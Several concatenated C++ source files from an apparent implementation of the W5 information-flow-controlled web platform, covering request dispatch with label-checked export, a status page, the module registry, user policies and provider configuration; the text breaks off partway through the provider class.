  // queued past its budget gets 504 instead of burning a worker on an
  // answer nobody is waiting for (DESIGN.md §12).
  if (RequestContext::deadline_expired()) {
    if (deadline_exceeded_ != nullptr) deadline_exceeded_->inc();
    return json_error(504, "deadline exceeded");
  }
  const std::string viewer = viewer_of(request);
  const std::string& developer = params.at("developer");
  const std::string& app = params.at("app");

  // Version selection: explicit ?version= beats the user's pin beats
  // latest (§2: users choose particular versions).
  std::string version =
      net::query_get(request.parsed.query, "version").value_or("");
  if (version.empty() && !viewer.empty()) {
    const auto& pins = provider_.policies().get(viewer).version_pins;
    const auto pin = pins.find(developer + "/" + app);
    if (pin != pins.end()) version = pin->second;
  }
  const Module* module = provider_.modules().resolve(developer, app, version);
  if (module == nullptr) return json_error(404, "no such application");

  // Resource containers: per-app parent, per-request child (§3.5).
  os::ResourceContainer* app_container = provider_.modules().container_for(
      module->path(), provider_.config().app_limits);
  os::ResourceContainer request_container(
      "request:" + module->path(), provider_.config().request_limits,
      app_container);

  // Initial label state (DESIGN.md §3.3): clean secrecy and integrity.
  // A write grant arrives as the wp(viewer)+ *capability*, exercised at
  // each write (endorsed endpoint), never as a standing integrity label —
  // a process labeled I={wp(u)} could no longer read anyone else's
  // unendorsed data (Flume's read rule), which would break every
  // multi-user app the moment its user granted it write access.
  // rp(viewer)+ similarly when the viewer granted read-protected access.
  difc::CapabilitySet owned;
  if (!viewer.empty()) {
    const UserAccount* account = provider_.users().find(viewer);
    const UserPolicy& policy = provider_.policies().get(viewer);
    // §3.1 integrity protection: with a trusted-fingerprint list set,
    // a module only *acts on the user's behalf* (receives grants) when
    // it and every imported component are on the list. The module still
    // runs — just without the user's privileges.
    const bool meritorious = module_components_trusted(*module, policy);
    if (!meritorious) {
      provider_.audit().record(AuditKind::kAdmin, module->id(),
                               "integrity-protection",
                               "grants withheld: unaudited component");
    }
    if (account != nullptr && meritorious &&
        policy.grants_write(module->path()))
      owned.add(difc::plus(account->write_tag));
    if (account != nullptr && meritorious &&
        policy.grants_read(module->path()))
      owned.add(difc::plus(account->read_tag));
  }
  const std::string module_id = module->id();  // concatenates; build once
  os::Pid pid;
  {
    ScopedSpan span("kernel.spawn", module_id);
    pid = provider_.kernel().spawn_trusted(
        "app:" + module_id, difc::LabelState({}, {}, owned),
        &request_container);
  }

  AppContext context(provider_, pid, *module, viewer, request, params);
  net::HttpResponse response;
  try {
    ScopedSpan span("app", module_id);
    response = module->handler(context);
  } catch (const std::exception& e) {
    // §3.5 Debugging: developers get a signal that their app failed, but
    // the diagnostic channel carries no user data — exception *type* only.
    provider_.audit().record(AuditKind::kAppError, module->id(),
                             request.parsed.path, typeid(e).name());
    (void)provider_.kernel().kill(pid, "app exception");
    provider_.kernel().reap(pid);
    return json_error(500, "application error");
  }

  const os::Process* process = provider_.kernel().find(pid);
  if (process == nullptr || process->status == os::ProcessStatus::kKilled) {
    // Killed mid-request (quota): the partial response must not escape.
    provider_.audit().record(AuditKind::kQuotaKill, module->id(),
                             request.parsed.path,
                             process != nullptr ? process->exit_reason : "");
    return json_error(503, "application over quota");
  }
  const difc::Label label = process->labels.secrecy();
  (void)provider_.kernel().exit(pid);
  provider_.kernel().reap(pid);

  // Popularity mining for code search (§3.2): every completed invocation
  // counts as a use.
  provider_.search_service().record_use(module->id());

  return export_response(std::move(response), label, viewer, module->id());
}

util::Result<difc::CapabilitySet> Gateway::authorize_export(
    const difc::Label& label, const std::string& viewer,
    const std::string& module_id, const std::string& destination,
    std::size_t byte_count) {
  // Distinct owners on the label (for aggregate declassifiers).
  std::set<std::string> owners;
  for (const difc::Tag tag : label.tags()) {
    if (const UserAccount* account = provider_.users().owner_of_tag(tag))
      owners.insert(account->id);
  }

  difc::CapabilitySet authority;
  for (const difc::Tag tag : label.tags()) {
    const UserAccount* owner = provider_.users().owner_of_tag(tag);
    if (owner == nullptr) {
      return util::make_error(
          "perimeter.denied",
          "no owner for tag " + provider_.kernel().tags().describe(tag));
    }
    // Read-protect tags are never exported through user-picked policy:
    // owner-only, always.
    const difc::TagInfo* info = provider_.kernel().tags().find(tag);
    const bool read_protect =
        info != nullptr && info->purpose == difc::TagPurpose::kReadProtect;

    const std::string declassifier_id =
        read_protect ? std::string("std/owner-only")
                     : provider_.policies().get(owner->id)
                           .secrecy_declassifier;
    Declassifier* declassifier =
        provider_.declassifiers().find(declassifier_id);
    if (declassifier == nullptr) {
      return util::make_error("perimeter.denied",
                              "declassifier '" + declassifier_id +
                                  "' not installed");
    }
    ExportRequest export_request{viewer,       owner->id,
                                 tag,          module_id,
                                 destination,  byte_count,
                                 owners.size()};
    // Span note: declassifier id only — policy names, never data.
    ScopedSpan span("declassify", declassifier_id);
    auto verdict = declassifier->decide(export_request);
    (verdict.ok() ? declassify_allow_ : declassify_deny_)->inc();
    provider_.audit().record(
        AuditKind::kDeclassifierDecision, declassifier_id,
        provider_.kernel().tags().describe(tag),
        verdict.ok() ? "allow viewer=" + viewer
                     : verdict.error().code + " viewer=" + viewer);
    if (!verdict.ok()) return verdict.error();
    authority.add(difc::minus(tag));
  }
  return authority;
}

net::HttpResponse Gateway::export_response(net::HttpResponse response,
                                           const difc::Label& label,
                                           const std::string& viewer,
                                           const std::string& module_id) {
  auto authority = authorize_export(label, viewer, module_id, "browser",
                                    response.body.size());
  if (!authority.ok()) {
    exports_blocked_->inc();
    provider_.audit().record(AuditKind::kExportBlocked, module_id,
                             label.to_string(), authority.error().detail);
    return perimeter_denial();
  }
  // The real DIFC check, with exactly the authority the declassifiers
  // granted — belt and suspenders over the per-tag loop above.
  {
    ScopedSpan span("flow-check");
    if (auto allowed = difc::check_export(label, authority.value());
        !allowed.ok()) {
      exports_blocked_->inc();
      provider_.audit().record(AuditKind::kExportBlocked, module_id,
                               label.to_string(), allowed.error().detail);
      return perimeter_denial();
    }
  }
  exports_allowed_->inc();

  if (provider_.config().strip_javascript) {
    const auto content_type = response.headers.get("Content-Type");
    if (content_type &&
        content_type->find("text/html") != std::string::npos) {
      bool modified = false;
      response.body = strip_javascript(response.body, &modified);
      if (modified) {
        provider_.audit().record(AuditKind::kAdmin, module_id,
                                 "sanitizer", "stripped scripts");
      }
    }
  }

  // Label transparency: tell the client which tags were declassified to
  // produce this response (names only — labels are not secret), and pin
  // scripts off via CSP when the provider filters JavaScript (the
  // MashupOS-flavored client-side extension the paper floats in §3.5).
  if (!label.empty()) {
    std::string names;
    for (const difc::Tag tag : label.tags()) {
      if (!names.empty()) names += ",";
      names += provider_.kernel().tags().describe(tag);
    }
    response.headers.set("X-W5-Label", names);
  }
  if (provider_.config().strip_javascript)
    response.headers.set("Content-Security-Policy", "script-src 'none'");

  provider_.audit().record(AuditKind::kExportAllowed, module_id,
                           label.to_string(), "viewer=" + viewer);
  return response;
}

}  // namespace w5::platform
