#include "core/statusz.h"

#include <atomic>
#include <string>

#include "core/provider.h"
#include "os/thread_pool.h"
#include "store/durable_store.h"

namespace w5::platform {

namespace {

util::Json from_u64(std::uint64_t v) {
  return util::Json(static_cast<std::int64_t>(v));
}

util::Json build_section() {
  util::Json build = util::Json::object();
  build["compiled"] = std::string(__DATE__) + " " + __TIME__;
#ifdef NDEBUG
  build["optimized"] = true;
#else
  build["optimized"] = false;
#endif
#ifdef W5_NO_TELEMETRY
  build["telemetry"] = false;
#else
  build["telemetry"] = true;
#endif
  return build;
}

util::Json serving_section(Provider& provider) {
  const ProviderConfig& config = provider.config();
  util::Json serving = util::Json::object();
  serving["mode"] =
      config.serve_mode == ServeMode::kEventLoop ? "event_loop" : "pooled";
  serving["app_dispatch"] =
      config.app_dispatch == AppDispatch::kInline ? "inline" : "pooled";
  serving["io_threads"] = from_u64(config.io_threads);
  serving["worker_threads"] = from_u64(config.worker_threads);
  serving["max_queued_connections"] = from_u64(config.max_queued_connections);
  serving["slow_request_micros"] = config.slow_request_micros;
  const net::ServerStats& stats = provider.server_stats();
  util::Json requests = util::Json::object();
  requests["handled"] = from_u64(stats.handled_total.load());
  requests["timeouts"] = from_u64(stats.timeouts_total.load());
  requests["reaped"] = from_u64(stats.reaped_total.load());
  requests["shed_503"] = from_u64(stats.shed_total.load());
  requests["rejected_413"] = from_u64(stats.rejected_413_total.load());
  requests["rejected_431"] = from_u64(stats.rejected_431_total.load());
  serving["requests"] = std::move(requests);
  const net::ConnStats& conns = provider.conn_stats();
  util::Json connections = util::Json::object();
  connections["open"] = conns.open.load();
  connections["idle"] = conns.idle.load();
  connections["accepted"] = from_u64(conns.accepted_total.load());
  connections["timeout_closes"] = from_u64(conns.timeout_closes_total.load());
  connections["resets"] = from_u64(conns.reset_total.load());
  serving["connections"] = std::move(connections);
  return serving;
}

util::Json reactor_section(Provider& provider) {
  util::Json loops = util::Json::array();
  for (const net::LoopStats& stats : provider.reactor_loop_stats()) {
    util::Json loop = util::Json::object();
    loop["connections"] = stats.connections.load(std::memory_order_relaxed);
    loop["epoll_wakeups"] =
        from_u64(stats.epoll_wakeups.load(std::memory_order_relaxed));
    loop["epoll_events"] =
        from_u64(stats.epoll_events.load(std::memory_order_relaxed));
    loop["mailbox_items"] =
        from_u64(stats.mailbox_items.load(std::memory_order_relaxed));
    loop["timer_fires"] =
        from_u64(stats.timer_fires.load(std::memory_order_relaxed));
    loop["requests"] = from_u64(stats.requests.load(std::memory_order_relaxed));
    loops.push_back(std::move(loop));
  }
  return loops;
}

util::Json durability_section(Provider& provider) {
  util::Json durability = util::Json::object();
  durability["enabled"] = provider.config().durability.enabled;
  durability["active"] = provider.durable() != nullptr;
  if (!provider.durability_status().ok())
    durability["error"] = provider.durability_status().error().code;
  const auto& recovery = provider.recovery_stats();
  util::Json recovered = util::Json::object();
  recovered["snapshot_loaded"] = recovery.snapshot_loaded;
  recovered["replayed_entries"] = from_u64(recovery.replayed_entries);
  recovered["last_seq"] = from_u64(recovery.last_seq);
  recovered["tail_torn"] = recovery.tail_torn;
  recovered["truncated_bytes"] = from_u64(recovery.truncated_bytes);
  recovered["recovery_micros"] = recovery.recovery_micros;
  durability["recovery"] = std::move(recovered);
  return durability;
}

// Per-peer circuit breaker states, scraped from the gauges fed::Node
// maintains (w5_fed_breaker_state{peer="..."}: 0 closed, 1 open,
// 2 half-open). Scanning the registry keeps statusz decoupled from the
// federation layer — a provider that never federates just shows {}.
util::Json breakers_section(Provider& provider) {
  util::Json breakers = util::Json::object();
  static constexpr std::string_view kPrefix = "w5_fed_breaker_state{peer=\"";
  const util::Json metrics = provider.metrics().to_json();
  for (const auto& [name, value] : metrics.at("gauges").as_object()) {
    if (!std::string_view(name).starts_with(kPrefix)) continue;
    std::string peer = name.substr(kPrefix.size());
    const std::size_t quote = peer.find('"');
    if (quote != std::string::npos) peer.resize(quote);
    const std::int64_t state = value.as_int();
    breakers[peer] = state == 0   ? "closed"
                     : state == 1 ? "open"
                                  : "half_open";
  }
  return breakers;
}

// Query-engine health (DESIGN.md §17): planner path mix, label-group
// skip ratio, index inventory, and the §3.5 governor posture — all from
// the record-free QueryEngineStats struct, so this page stays one
// include away from counters, never from record bytes.
util::Json query_engine_section(Provider& provider) {
  const store::QueryEngineStats stats = provider.store().query_stats();
  util::Json plans = util::Json::object();
  plans["field_index"] = from_u64(stats.plans_field);
  plans["owner_index"] = from_u64(stats.plans_owner);
  plans["label_scan"] = from_u64(stats.plans_scan);
  util::Json groups = util::Json::object();
  groups["checked"] = from_u64(stats.label_groups_checked);
  groups["skipped"] = from_u64(stats.label_groups_skipped);
  util::Json indexes = util::Json::object();
  indexes["registered"] = static_cast<std::int64_t>(stats.registered_indexes);
  indexes["field_postings"] = static_cast<std::int64_t>(stats.field_postings);
  indexes["label_postings"] = static_cast<std::int64_t>(stats.label_postings);
  indexes["owner_postings"] = static_cast<std::int64_t>(stats.owner_postings);
  util::Json governor = util::Json::object();
  governor["count_quantum"] = static_cast<std::int64_t>(stats.count_quantum);
  governor["budget_queries"] = from_u64(stats.budget_queries);
  governor["admitted"] = from_u64(stats.queries_admitted);
  governor["denied"] = from_u64(stats.queries_denied);
  governor["principals"] = static_cast<std::int64_t>(stats.budget_principals);
  util::Json engine = util::Json::object();
  engine["plans"] = std::move(plans);
  engine["label_groups"] = std::move(groups);
  engine["indexes"] = std::move(indexes);
  engine["governor"] = std::move(governor);
  engine["cursor_resumes"] = from_u64(stats.cursor_resumes);
  return engine;
}

// Federation health (DESIGN.md §18): sync rounds/records/retries and
// the metasearch fan-out posture, scraped from the w5_fed_* metrics
// fed::Node and fed::Metasearch maintain. Like breakers_section, the
// registry scrape keeps statusz decoupled from fed/ — counts and states
// only, never record bytes (§3.5).
util::Json fed_section(Provider& provider) {
  const util::Json metrics = provider.metrics().to_json();
  const util::Json& counters = metrics.at("counters");
  const auto counter = [&](const std::string& name) {
    return from_u64(static_cast<std::uint64_t>(counters.at(name).as_int(0)));
  };
  util::Json sync = util::Json::object();
  sync["rounds_ok"] = counter("w5_fed_sync_rounds_total{result=\"ok\"}");
  sync["rounds_error"] = counter("w5_fed_sync_rounds_total{result=\"error\"}");
  util::Json records = util::Json::object();
  for (const char* kind : {"offered", "applied", "skipped", "conflicts"}) {
    records[kind] = counter(std::string("w5_fed_sync_records_total{kind=\"") +
                            kind + "\"}");
  }
  sync["records"] = std::move(records);
  // Per-peer retry/backoff posture rides the peer-labelled metrics.
  util::Json retries = util::Json::object();
  static constexpr std::string_view kRetryPrefix =
      "w5_fed_sync_retries_total{peer=\"";
  for (const auto& [name, value] : counters.as_object()) {
    if (!std::string_view(name).starts_with(kRetryPrefix)) continue;
    std::string peer = name.substr(kRetryPrefix.size());
    const std::size_t quote = peer.find('"');
    if (quote != std::string::npos) peer.resize(quote);
    retries[peer] = value;
  }
  sync["retries"] = std::move(retries);

  util::Json metasearch = util::Json::object();
  metasearch["fanouts"] = counter("w5_fed_query_fanouts_total");
  metasearch["partial"] = counter("w5_fed_query_partial_total");
  metasearch["served"] = counter("w5_fed_query_served_total");
  metasearch["dedup_dropped"] = counter("w5_fed_query_dedup_dropped_total");
  metasearch["records_merged"] = counter("w5_fed_query_records_merged_total");
  util::Json peer_results = util::Json::object();
  for (const char* result : {"ok", "timeout", "error", "breaker_open"}) {
    peer_results[result] =
        counter(std::string("w5_fed_query_peer_results_total{result=\"") +
                result + "\"}");
  }
  metasearch["peer_results"] = std::move(peer_results);

  util::Json fed = util::Json::object();
  fed["sync"] = std::move(sync);
  fed["metasearch"] = std::move(metasearch);
  return fed;
}

util::Json tracing_section(Provider& provider) {
  util::Json tracing = util::Json::object();
  tracing["traces_recorded"] = from_u64(provider.traces().recorded());
  tracing["traces_held"] = from_u64(provider.traces().size());
  tracing["spans_dropped"] = from_u64(provider.traces().dropped());
  tracing["slowlog_recorded"] = from_u64(provider.flight_recorder().recorded());
  tracing["slowlog_held"] = from_u64(provider.flight_recorder().size());
  return tracing;
}

}  // namespace

util::Json build_statusz(Provider& provider) {
  util::Json out = util::Json::object();
  out["provider"] = provider.config().name;
  out["build"] = build_section();
  out["serving"] = serving_section(provider);
  out["reactor_loops"] = reactor_section(provider);
  out["durability"] = durability_section(provider);
  out["fed_breakers"] = breakers_section(provider);
  out["fed"] = fed_section(provider);
  out["query_engine"] = query_engine_section(provider);
  out["tracing"] = tracing_section(provider);
  return out;
}

}  // namespace w5::platform
