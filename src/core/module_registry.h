// Module registry: developer-contributed code the platform hosts.
//
// The paper's eco-system (§2 "Developers"): developers upload modules
// (closed- or open-source), users pick specific modules and *versions*
// ("I want to use version X.Y of that Web application, not the latest"),
// and any developer can fork another's open-source module and instantly
// offer it to the fork-source's users.
#pragma once

#include <deque>
#include <functional>
#include <map>
#include <memory>
#include <optional>
#include <shared_mutex>
#include <string>
#include <vector>

#include "net/http.h"
#include "os/resources.h"
#include "util/result.h"
#include "util/thread_annotations.h"
#include "util/lock_ranks.h"

namespace w5::platform {

class AppContext;  // app_context.h

// The entire API surface a module gets is one AppContext&.
using AppHandler = std::function<net::HttpResponse(AppContext&)>;

struct ModuleManifest {
  std::string description;
  bool open_source = false;        // source released → forkable, auditable
  std::string source;              // "source code" when open (fingerprinted)
  std::vector<std::string> imports;  // module ids this module links against
  std::string data_format = "json";  // "json" = conventional; else
                                     // proprietary (anti-social, §3.2)
};

struct Module {
  std::string developer;  // e.g. "devA"
  std::string name;       // e.g. "crop"
  std::string version;    // e.g. "1.0"
  ModuleManifest manifest;
  AppHandler handler;
  std::string fingerprint;  // sha256 of source (or of developer/name/version
                            // for closed modules)
  std::string forked_from;  // module id when created by fork()

  std::string id() const { return developer + "/" + name + "@" + version; }
  std::string path() const { return developer + "/" + name; }
};

// Thread-safe: shared_mutex over the version map (uploads/forks are
// rare, resolution is per-request). Module* stays valid for the
// registry's lifetime — versions live in a deque (push_back never moves
// elements) and are never erased.
class ModuleRegistry {
 public:
  ModuleRegistry() = default;

  ModuleRegistry(const ModuleRegistry&) = delete;
  ModuleRegistry& operator=(const ModuleRegistry&) = delete;

  // Registers a module version. Duplicate (developer, name, version) is
  // an error; new versions of the same path accumulate.
  util::Status add(Module module);

  // Resolve by path with optional version; empty version = latest
  // registered (registration order defines "latest").
  const Module* resolve(const std::string& developer, const std::string& name,
                        const std::string& version = {}) const;
  const Module* resolve_id(const std::string& module_id) const;

  // Fork an open-source module under a new developer (paper §2: "any
  // developer ... can customize an existing application by simply
  // 'forking' the existing code"). The fork starts at version 1.0 with
  // the same handler; a replacement handler may be supplied (the fork's
  // customization).
  util::Result<const Module*> fork(const std::string& source_module_id,
                                   const std::string& new_developer,
                                   const std::string& new_name,
                                   AppHandler replacement_handler = nullptr);

  std::vector<const Module*> all() const;
  std::vector<const Module*> versions_of(const std::string& developer,
                                         const std::string& name) const;

  // Per-application resource container (created lazily; §3.5 limits).
  os::ResourceContainer* container_for(const std::string& module_path,
                                       const os::ResourceVector& limits);

 private:
  // Callers must hold mutex_ (exclusive for add_locked).
  util::Status add_locked(Module module) W5_REQUIRES(mutex_);
  const Module* resolve_locked(const std::string& developer,
                               const std::string& name,
                               const std::string& version) const
      W5_REQUIRES_SHARED(mutex_);
  const Module* resolve_id_locked(const std::string& module_id) const
      W5_REQUIRES_SHARED(mutex_);

  mutable util::SharedMutex mutex_{util::lockrank::kModuleRegistry,
                                    "ModuleRegistry::mutex_"};
  // Keyed by developer/name, then ordered list of versions. deque: stable
  // element addresses across push_back (resolve() hands out Module*).
  std::map<std::string, std::deque<Module>> modules_ W5_GUARDED_BY(mutex_);
  std::map<std::string, std::unique_ptr<os::ResourceContainer>> containers_
      W5_GUARDED_BY(mutex_);
};

}  // namespace w5::platform
