#include "core/policy.h"

#include <algorithm>
#include <mutex>

#include "util/log.h"

namespace w5::platform {

bool UserPolicy::grants_write(const std::string& module_path) const {
  return std::find(write_grants.begin(), write_grants.end(), module_path) !=
         write_grants.end();
}

bool UserPolicy::grants_read(const std::string& module_path) const {
  return std::find(read_grants.begin(), read_grants.end(), module_path) !=
         read_grants.end();
}

bool UserPolicy::is_private_collection(const std::string& collection) const {
  return std::find(private_collections.begin(), private_collections.end(),
                   collection) != private_collections.end();
}

util::Json UserPolicy::to_json() const {
  util::Json out;
  out["declassifier"] = secrecy_declassifier;
  util::Json writes = util::Json::array();
  for (const auto& grant : write_grants) writes.push_back(grant);
  out["write_grants"] = std::move(writes);
  util::Json reads = util::Json::array();
  for (const auto& grant : read_grants) reads.push_back(grant);
  out["read_grants"] = std::move(reads);
  util::Json privates = util::Json::array();
  for (const auto& collection : private_collections)
    privates.push_back(collection);
  out["private_collections"] = std::move(privates);
  util::Json trusted = util::Json::array();
  for (const auto& fingerprint : trusted_fingerprints)
    trusted.push_back(fingerprint);
  out["trusted_fingerprints"] = std::move(trusted);
  util::Json pins;
  pins.mutable_object();
  for (const auto& [path, version] : version_pins) pins[path] = version;
  out["version_pins"] = std::move(pins);
  return out;
}

util::Result<UserPolicy> UserPolicy::from_json(const util::Json& j) {
  if (!j.is_object())
    return util::make_error("policy.parse", "policy must be an object");
  UserPolicy policy;
  if (j.contains("declassifier")) {
    if (!j.at("declassifier").is_string())
      return util::make_error("policy.parse", "declassifier must be string");
    policy.secrecy_declassifier = j.at("declassifier").as_string();
  }
  const auto read_list = [&](const char* key,
                             std::vector<std::string>& out) -> util::Status {
    if (!j.contains(key)) return util::ok_status();
    if (!j.at(key).is_array())
      return util::make_error("policy.parse", std::string(key) + " not array");
    for (const auto& item : j.at(key).as_array()) {
      if (!item.is_string())
        return util::make_error("policy.parse", "non-string entry");
      out.push_back(item.as_string());
    }
    return util::ok_status();
  };
  if (auto status = read_list("write_grants", policy.write_grants);
      !status.ok())
    return status.error();
  if (auto status = read_list("read_grants", policy.read_grants); !status.ok())
    return status.error();
  if (auto status =
          read_list("private_collections", policy.private_collections);
      !status.ok())
    return status.error();
  if (auto status =
          read_list("trusted_fingerprints", policy.trusted_fingerprints);
      !status.ok())
    return status.error();
  if (j.contains("version_pins")) {
    if (!j.at("version_pins").is_object())
      return util::make_error("policy.parse", "version_pins not object");
    for (const auto& [path, version] : j.at("version_pins").as_object()) {
      if (!version.is_string())
        return util::make_error("policy.parse", "pin version not string");
      policy.version_pins[path] = version.as_string();
    }
  }
  return policy;
}

UserPolicy PolicyStore::get(const std::string& user_id) const {
  const util::ReadLock lock(mutex_);
  const auto it = policies_.find(user_id);
  return it == policies_.end() ? default_policy_ : it->second;
}

void PolicyStore::set(const std::string& user_id, UserPolicy policy) {
  util::WriteLock lock(mutex_);
  policies_[user_id] = std::move(policy);
  std::uint64_t seq = 0;
  if (mutation_log_ != nullptr) {
    util::Json op;
    op["op"] = "policy.set";
    op["user"] = user_id;
    op["policy"] = policies_[user_id].to_json();
    seq = mutation_log_->log(op);
  }
  lock.unlock();
  if (mutation_log_ != nullptr) {
    if (auto durable = mutation_log_->wait_durable(seq); !durable.ok())
      util::log_warn("policy store: set not durable: ",
                     durable.error().detail);
  }
}

util::Status PolicyStore::apply_wal(const util::Json& op) {
  if (op.at("op").as_string() != "policy.set")
    return util::make_error("wal.replay", "unknown policy op");
  auto policy = UserPolicy::from_json(op.at("policy"));
  if (!policy.ok()) return policy.error();
  util::WriteLock lock(mutex_);
  policies_[op.at("user").as_string()] = std::move(policy).value();
  return util::ok_status();
}

util::Json PolicyStore::to_json() const {
  const util::ReadLock lock(mutex_);
  util::Json out;
  out.mutable_object();
  for (const auto& [user, policy] : policies_) out[user] = policy.to_json();
  return out;
}

util::Status PolicyStore::load_json(const util::Json& snapshot) {
  if (!snapshot.is_object())
    return util::make_error("policy.parse", "snapshot must be object");
  std::map<std::string, UserPolicy> policies;
  for (const auto& [user, policy_json] : snapshot.as_object()) {
    auto policy = UserPolicy::from_json(policy_json);
    if (!policy.ok()) return policy.error();
    policies[user] = std::move(policy).value();
  }
  util::WriteLock lock(mutex_);
  policies_ = std::move(policies);
  return util::ok_status();
}

}  // namespace w5::platform
