// Provider: one W5 meta-application (paper Fig. 2).
//
// Owns the whole trusted stack — kernel, labeled filesystem and store,
// user directory, sessions, policies, declassifiers, module registry,
// audit log — and the Gateway that fronts it over HTTP. Everything a test,
// bench, example, or federation peer does goes through this type.
#pragma once

#include <atomic>
#include <memory>
#include <mutex>
#include <string>

#include "core/audit.h"
#include "core/auth.h"
#include "core/declassifier.h"
#include "core/flight_recorder.h"
#include "core/module_registry.h"
#include "core/policy.h"
#include "core/search_service.h"
#include "core/trace.h"
#include "core/user.h"
#include "net/event_loop_server.h"
#include "net/http.h"
#include "net/http_parser.h"
#include "net/http_server.h"
#include "net/tcp.h"
#include "os/filesystem.h"
#include "os/kernel.h"
#include "os/thread_pool.h"
#include "store/durable_store.h"
#include "store/labeled_store.h"
#include "util/clock.h"
#include "util/metrics.h"

namespace w5::platform {

class Gateway;
using ExternalFetcher =
    std::function<util::Result<std::string>(const std::string& url)>;

// ---- Federated metasearch seam (DESIGN.md §18) ------------------------------
// The layering DAG forbids core/ → fed/, so the gateway reaches the
// scatter/gather plane through a hook the federation layer installs
// (fed::Metasearch::install), the same seam shape as ExternalFetcher.
// The types are core-owned; fed/ includes core/ and fills them in.

struct FederatedQuery {
  std::string collection;
  std::string terms;  // free-text AND match, tokenized downstream
  // Indexable equality constraint, forwarded into store::QueryOptions.
  std::string eq_field;
  std::string eq_value;
  // Fields to facet-count over the merged window (§3.5-quantized).
  std::vector<std::string> facets;
  std::size_t limit = 20;
  std::string cursor;  // merge cursor from a previous page
  // Query-budget principal for the local store leg ("" = unmetered
  // trusted front-end; AppContext stamps the module id).
  std::string principal;
};

struct FederatedPage {
  // Rendered result document: items/facets/peers/partial/next_cursor.
  util::Json body = util::Json::object();
  // Union of the local records' secrecy labels — what the gateway's
  // export perimeter must clear before the page reaches a browser.
  // Remote rows crossed the peer's mirror declassifier already and
  // carry no local tags.
  difc::Label secrecy;
  bool partial = false;  // at least one peer missing from the merge
};

// `pid` is the querying labeled process: the local store leg runs (and
// contaminates) under it. The gateway passes os::kKernelPid and applies
// the export check on `secrecy` instead.
using FederatedSearchFn = std::function<util::Result<FederatedPage>(
    os::Pid pid, const std::string& viewer, const FederatedQuery& query)>;

// How serve() multiplexes TCP clients (DESIGN.md §15). Same handler,
// same robustness semantics; only the I/O model differs.
enum class ServeMode : std::uint8_t {
  // Epoll edge-triggered reactor (net::EventLoopHttpServer): a few I/O
  // loops multiplex all connections; workers run only application code.
  kEventLoop,
  // Worker-per-connection (net::PooledHttpServer): each accepted socket
  // pins one pool worker for its whole life. The pre-§15 behavior.
  kPooled,
};

// Where the reactor runs application handlers (kEventLoop only).
enum class AppDispatch : std::uint8_t {
  // On the owning I/O loop, synchronously. No cross-thread handoff — the
  // right default for the fast in-memory gateway path; overload shows up
  // as TCP backpressure (the loop stops reading) rather than 503s.
  kInline,
  // On the worker pool, completing through the loop's mailbox. Pays two
  // context switches per request but keeps blocking handlers (fsync-mode
  // durability, slow module calls) off the I/O loops, and sheds
  // 503 + Retry-After when the pool queue hits max_queued_connections.
  kPooled,
};

struct ProviderConfig {
  std::string name = "w5.org";
  util::Micros session_ttl_micros = 30ll * 60 * 1000 * 1000;  // 30 min
  // Per-application resource limits (paper §3.5). Defaults generous but
  // finite so a rogue app is always eventually contained.
  os::ResourceVector app_limits{
      .cpu_ticks = 1'000'000,
      .memory_bytes = 64ll << 20,
      .disk_bytes = 256ll << 20,
      .network_bytes = 64ll << 20,
  };
  // Per-request child limits.
  os::ResourceVector request_limits{
      .cpu_ticks = 10'000,
      .memory_bytes = 8ll << 20,
      .disk_bytes = 16ll << 20,
      .network_bytes = 4ll << 20,
  };
  bool strip_javascript = true;  // §3.5 client-side support
  net::ParserLimits http_limits;
  // Worker threads for serve(); connections queue beyond this (bounded
  // concurrency is the §3.5 admission control, not thread-per-client).
  std::size_t worker_threads = 8;
  // ---- Robustness (DESIGN.md §12) ----------------------------------------
  // Slow-client reaping defaults: a client gets 10 s to deliver its
  // header block, 30 s for the declared body, and 10 s per response
  // write before the connection is reaped (0 disables a deadline).
  net::ServerOptions http_robustness{
      .header_deadline_micros = 10'000'000,
      .body_deadline_micros = 30'000'000,
      .write_timeout_micros = 10'000'000,
  };
  // Connections allowed to wait for a worker; beyond this the accept
  // loop sheds with 503 + Retry-After instead of queueing unboundedly.
  std::size_t max_queued_connections = 256;
  // ---- Serving mode (DESIGN.md §15) ---------------------------------------
  ServeMode serve_mode = ServeMode::kEventLoop;
  // Reactor I/O loop threads (kEventLoop only). One loop multiplexes
  // tens of thousands of connections; raise only when a single core
  // cannot keep up with parsing + framing.
  std::size_t io_threads = 1;
  // Reactor handler placement (kEventLoop only): inline on the loop by
  // default; kPooled offloads to the worker pool for blocking handlers.
  AppDispatch app_dispatch = AppDispatch::kInline;
  // Per-request wall-clock budget stamped into RequestContext at the
  // gateway (tightened by a client X-W5-Deadline-Ms header; 0 disables).
  util::Micros request_deadline_micros = 30'000'000;
  // ---- Observability (DESIGN.md §16) --------------------------------------
  // Requests slower than this land in the flight recorder with their full
  // span dump, queryable at /debug/slowlog (0 disables the recorder).
  util::Micros slow_request_micros = 250'000;
  // ---- Durability (DESIGN.md §13) -----------------------------------------
  // Off by default: the provider stays purely in-memory, as before. When
  // enabled, construction recovers from durability.dir (newest valid
  // snapshot + WAL tail) and every later mutation is WAL-logged per the
  // configured mode before its request completes.
  store::DurabilityConfig durability;
  // ---- Store query engine (DESIGN.md §17) ---------------------------------
  // Secondary indexes registered at boot (and re-registered before
  // durability recovery, so replayed records land indexed). The default
  // covers the dating app's city lookups — the platform's one built-in
  // equality query.
  std::vector<store::IndexSpec> store_indexes{{"profiles", "city"}};
  // §3.5 covert-channel knobs: count quantization + per-principal query
  // budgets. Defaults (quantum 1, budget 0) are fully open.
  store::QueryGovernorConfig query_governor;
};

class Provider {
 public:
  explicit Provider(ProviderConfig config, const util::Clock& clock);
  ~Provider();

  Provider(const Provider&) = delete;
  Provider& operator=(const Provider&) = delete;

  const ProviderConfig& config() const noexcept { return config_; }
  const util::Clock& clock() const noexcept { return clock_; }

  os::Kernel& kernel() noexcept { return kernel_; }
  os::FileSystem& fs() noexcept { return fs_; }
  store::LabeledStore& store() noexcept { return store_; }
  UserDirectory& users() noexcept { return users_; }
  SessionManager& sessions() noexcept { return sessions_; }
  PolicyStore& policies() noexcept { return policies_; }
  DeclassifierRegistry& declassifiers() noexcept { return declassifiers_; }
  ModuleRegistry& modules() noexcept { return modules_; }
  AuditLog& audit() noexcept { return audit_; }
  SearchService& search_service() noexcept { return search_; }
  Gateway& gateway() noexcept { return *gateway_; }
  util::MetricsRegistry& metrics() noexcept { return metrics_; }
  TraceBuffer& traces() noexcept { return traces_; }
  FlightRecorder& flight_recorder() noexcept { return flight_recorder_; }
  // Per-reactor-loop counters (entry i = I/O loop i), sized at
  // construction so /debug/statusz can read them while serve() runs.
